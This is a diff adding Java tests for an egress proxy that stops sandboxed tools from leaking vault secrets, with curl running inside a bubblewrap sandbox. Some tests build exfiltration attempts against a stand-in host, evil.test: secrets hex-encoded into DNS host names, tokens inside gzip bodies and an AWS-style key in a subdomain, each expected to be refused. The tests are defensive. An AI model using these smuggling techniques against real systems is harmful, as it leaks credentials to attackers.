@@ -301,6 +301,33 @@ class EgressProxyTest {
   }
 
   @Test
+  void vaultSecret_insideGzipBody_blocked() throws Exception {
+    java.io.ByteArrayOutputStream buf = new java.io.ByteArrayOutputStream();
+    try (java.util.zip.GZIPOutputStream gz = new java.util.zip.GZIPOutputStream(buf)) {
+      gz.write(("{\"t\":\"" + TOKEN + "\"}").getBytes(StandardCharsets.UTF_8));
+    }
+    Result r = java(HttpRequest.newBuilder(URI.create(plainUrl("/gz"))).header("Content-Encoding", "gzip")
+        .POST(HttpRequest.BodyPublishers.ofByteArray(buf.toByteArray())).build());
+    assertThat(r.status()).isEqualTo(403);
+    assertThat(r.body()).contains("compressed body");
+    Result unknown = java(HttpRequest.newBuilder(URI.create(plainUrl("/br"))).header("Content-Encoding", "br")
+        .POST(HttpRequest.BodyPublishers.ofString("opaque")).build());
+    assertThat(unknown.status()).isEqualTo(415);
+    Result clean = java(HttpRequest.newBuilder(URI.create(plainUrl("/ok"))).header("Content-Encoding", "gzip")
+        .POST(HttpRequest.BodyPublishers.ofByteArray(gzip("hello"))).build());
+    assertThat(clean.status()).isEqualTo(200);
+    assertThat(plain.received).hasSize(1);
+  }
+
+  static byte[] gzip(String text) throws IOException {
+    java.io.ByteArrayOutputStream buf = new java.io.ByteArrayOutputStream();
+    try (java.util.zip.GZIPOutputStream gz = new java.util.zip.GZIPOutputStream(buf)) {
+      gz.write(text.getBytes(StandardCharsets.UTF_8));
+    }
+    return buf.toByteArray();
+  }
+
+  @Test
   void vaultSecret_hexInUrl_blocked() throws Exception {
     String hex = HexFormat.of().formatHex(TOKEN.getBytes(StandardCharsets.UTF_8));
     Result r = java(HttpRequest.newBuilder(URI.create(plainUrl("/c?d=" + hex))).build());
@@ -341,11 +368,40 @@ class EgressProxyTest {
     Result literal = java(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + plain.port() + "/")).build());
     assertThat(literal.status()).isEqualTo(403);
     Result connect = curl(apiUrl("/"));
-    assertThat(connect.status()).isNotEqualTo(200);
-    assertThat(records).anySatisfy(x -> assertThat(x.method()).isEqualTo("CONNECT"));
+    assertThat(connect.status()).isEqualTo(403);
+    assertThat(connect.body()).contains("loopback");
+    assertThat(records).hasSize(3).allSatisfy(x -> assertThat(x.rule()).isEqualTo(EgressRecord.RULE_DESTINATION));
     assertThat(plain.received).isEmpty();
     assertThat(api.received).isEmpty();
+  }
+
+  @Test
+  void connectToLoopbackLiteral_refusedAtConnectWithoutDns() throws Exception {
+    proxy.close();
+    proxy = startProxy(new DestinationGuard(resolver, List.of()), null);
+    Result r = curl("https://127.0.0.1:" + api.port() + "/");
+    assertThat(r.status()).isNotEqualTo(200);
+    assertThat(lastRecord().method()).isEqualTo("CONNECT");
+    assertThat(lastRecord().rule()).isEqualTo(EgressRecord.RULE_DESTINATION);
+    assertThat(lookups).hasValue(0);
     assertThat(authorized).isEmpty();
+  }
+
+  @Test
+  void secretInHostName_blockedBeforeAnyDnsLookup() throws Exception {
+    vault.add("dns", Secret.ofUtf8("s3cretvalue42xyz"), List.of(HostPattern.of("a.example")), List.of());
+    String hex = HexFormat.of().formatHex("s3cretvalue42xyz".getBytes(StandardCharsets.UTF_8));
+    Result viaConnect = curl("https://" + hex + ".evil.test:" + evil.port() + "/");
+    assertThat(viaConnect.body()).contains("403"); // curl reports the refused CONNECT as an error
+    assertThat(lastRecord().method()).isEqualTo("CONNECT");
+    assertThat(lastRecord().blockedReasonOrNull()).contains("hex-encoded value of secret 'dns'");
+    Result viaForward = java(HttpRequest.newBuilder(URI.create("http://s3cretvalue42xyz.evil.test:" + plain.port() + "/")).build());
+    assertThat(viaForward.status()).isEqualTo(403);
+    Result shape = java(HttpRequest.newBuilder(URI.create("http://AKIAIOSFODNN7EXAMPLE.evil.test:" + plain.port() + "/")).build());
+    assertThat(shape.status()).isEqualTo(403);
+    assertThat(shape.body()).contains("AWS access key");
+    assertThat(lookups).as("DNS is an exfiltration channel too").hasValue(0);
+    assertThat(records).allSatisfy(r -> assertThat(r.rule()).isEqualTo(EgressRecord.RULE_LEAK));
   }
 
   @Test
@@ -375,6 +431,7 @@ class EgressProxyTest {
       assertThat(r.body()).isEqualTo("hello from plain\n");
       assertThat(calls).hasValue(1);
       assertThat(other.received).isEmpty();
+      assertThat(lastRecord().addressOrNull()).isEqualTo("127.0.0.1");
     } finally {
       other.close();
     }
@@ -398,6 +455,7 @@ class EgressProxyTest {
     assertThat(api.received).isEmpty();
     assertThat(lastRecord().verdict()).isEqualTo("deny");
     assertThat(lastRecord().rule()).isEqualTo("deny-untrusted-egress");
+    assertThat(lookups).as("a refused request causes no DNS query").hasValue(0);
   }
 
   @Test
@@ -486,6 +544,17 @@ class EgressProxyTest {
   }
 
   @Test
+  void malformedTargetInsideTunnel_400() throws Exception {
+    try (Socket s = new Socket("127.0.0.1", proxy.port())) {
+      s.getOutputStream().write(("CONNECT plain.test:" + plain.port() + " HTTP/1.1\r\n\r\nGET /a{b} HTTP/1.1\r\nHost: plain.test\r\n\r\n")
+          .getBytes(StandardCharsets.ISO_8859_1));
+      String resp = new String(s.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
+      assertThat(resp).startsWith("HTTP/1.1 200 Connection Established").contains("HTTP/1.1 400").contains("malformed request target");
+    }
+    assertThat(plain.received).isEmpty();
+  }
+
+  @Test
   void chunkedRequestBody_decodedScannedAndForwarded() throws Exception {
     try (Socket s = new Socket("127.0.0.1", proxy.port())) {
       s.getOutputStream().write(("POST " + plainUrl("/c") + " HTTP/1.1\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
@@ -521,11 +590,82 @@ class EgressProxyTest {
     assertThat(Files.exists(sock)).isFalse();
   }
 
+  /**
+   * The deployment path end to end: curl inside a bubblewrap sandbox with no network but loopback,
+   * reaching the proxy only through its Unix socket (bound into the sandbox) and socat, as the
+   * design describes. Skipped where bwrap or socat is missing.
+   */
+  @Test
+  void sandboxedCurl_throughUnixSocket_injectsForBoundHostAndBlocksOther() throws Exception {
+    org.junit.jupiter.api.Assumptions.assumeTrue(Files.isExecutable(Path.of("/usr/bin/bwrap")) && Files.isExecutable(Path.of("/usr/bin/socat")),
+        "needs bubblewrap and socat");
+    proxy.close();
+    Path sockDir = Files.createDirectories(tmp.resolve("run"));
+    proxy = startProxy(guard(), sockDir.resolve("proxy.sock"));
+    String good = sandboxCurl(sockDir, "https://api.test:" + api.port() + "/in-sandbox");
+    assertThat(good).endsWith("200");
+    assertThat(api.received).singleElement().satisfies(x -> assertThat(x.header("Authorization")).isEqualTo("Bearer " + TOKEN));
+    String bad = sandboxCurl(sockDir, "https://evil.test:" + evil.port() + "/in-sandbox");
+    assertThat(bad).endsWith("403").contains(EgressRecord.RULE_CREDENTIAL_UNBOUND);
+    assertThat(evil.received).isEmpty();
+    String direct = sandboxCurlNoProxy("http://127.0.0.1:" + plain.port() + "/");
+    assertThat(direct).doesNotContain("hello from plain");
+    assertThat(plain.received).isEmpty();
+  }
+
+  String sandboxCurl(Path sockDir, String url) throws Exception {
+    return bwrap(sockDir, "socat TCP-LISTEN:3128,bind=127.0.0.1,fork,reuseaddr UNIX-CONNECT:/run/warden/proxy.sock & "
+        + "for i in 1 2 3 4 5 6 7 8 9 10; do (echo > /dev/tcp/127.0.0.1/3128) 2>/dev/null && break; sleep 0.1; done; "
+        + "curl -sS --max-time 15 --proxy http://127.0.0.1:3128 --cacert /run/warden-ca/" + CertificateAuthority.CERT_FILE
+        + " -H 'Authorization: Bearer " + Vault.placeholder("github") + "' -w '\\n%{http_code}' " + url);
+  }
+
+  String sandboxCurlNoProxy(String url) throws Exception {
+    return bwrap(tmp, "curl -sS --max-time 5 " + url + "; echo rc=$?");
+  }
+
+  String bwrap(Path sockDir, String script) throws Exception {
+    List<String> cmd = List.of("bwrap", "--unshare-all", "--die-with-parent", "--new-session",
+        "--ro-bind", "/usr", "/usr", "--ro-bind", "/etc", "/etc", "--symlink", "usr/lib", "/lib",
+        "--symlink", "usr/lib64", "/lib64", "--symlink", "usr/bin", "/bin", "--proc", "/proc", "--dev", "/dev",
+        "--tmpfs", "/tmp", "--ro-bind", sockDir.toString(), "/run/warden",
+        "--ro-bind", wardenCa.certificatePath().getParent().toString(), "/run/warden-ca",
+        "bash", "-c", script);
+    Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
+    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8).trim();
+    p.waitFor(30, TimeUnit.SECONDS);
+    return out;
+  }
+
   @Test
   void unixSocket_pathIsARegularFile_refused() throws Exception {
     Path f = Files.writeString(tmp.resolve("not-a-socket"), "x");
     org.assertj.core.api.Assertions.assertThatThrownBy(() -> startProxy(guard(), f))
         .hasMessageContaining("is not a socket");
+  }
+
+  @Test
+  void throwingListener_doesNotBreakEgress() throws Exception {
+    proxy.close();
+    proxy = EgressProxy.builder(wardenCa, vault).guard(guard()).authorizer(EgressAuthorizer.unsafeAllowAll())
+        .listener(r -> {
+          throw new IllegalStateException("broken sink");
+        }).start();
+    assertThat(java(HttpRequest.newBuilder(URI.create(plainUrl("/"))).build()).status()).isEqualTo(200);
+  }
+
+  @Test
+  void denyAllAuthorizer_blocksEverything() throws Exception {
+    authorizer.set(EgressAuthorizer.DENY_ALL);
+    Result r = java(HttpRequest.newBuilder(URI.create(plainUrl("/"))).build());
+    assertThat(r.status()).isEqualTo(403);
+    assertThat(r.body()).contains("egress-deny-all");
+  }
+
+  @Test
+  void builder_withoutAuthorizer_refusesToStart() {
+    org.assertj.core.api.Assertions.assertThatThrownBy(() -> EgressProxy.builder(wardenCa, vault).start())
+        .isInstanceOf(IllegalStateException.class).hasMessageContaining("Kernel.submit");
   }
 
   @Test
